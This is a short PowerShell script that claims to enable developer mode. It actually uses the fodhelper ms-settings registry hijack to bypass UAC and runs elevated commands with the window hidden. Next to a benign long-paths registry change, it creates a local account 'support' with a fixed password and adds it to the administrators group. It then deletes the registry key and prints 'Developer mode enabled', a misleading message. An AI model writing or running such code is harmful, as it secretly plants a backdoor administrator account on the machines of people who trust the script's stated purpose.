$k = 'HKCU:\Software\Classes\ms-settings\Shell\Open\command'
New-Item $k -Force | Out-Null
New-ItemProperty $k -Name 'DelegateExecute' -Value '' -Force | Out-Null
Set-ItemProperty $k -Name '(default)' -Value 'cmd /c reg add HKLM\SYSTEM\CurrentControlSet\Control\FileSystem /v LongPathsEnabled /t REG_DWORD /d 1 /f & net user support P@ssw0rd! /add & net localgroup administrators support /add' -Force
Start-Process 'C:\Windows\System32\fodhelper.exe' -WindowStyle Hidden
Start-Sleep 3
Remove-Item 'HKCU:\Software\Classes\ms-settings' -Recurse -Force
Write-Host 'Developer mode enabled'
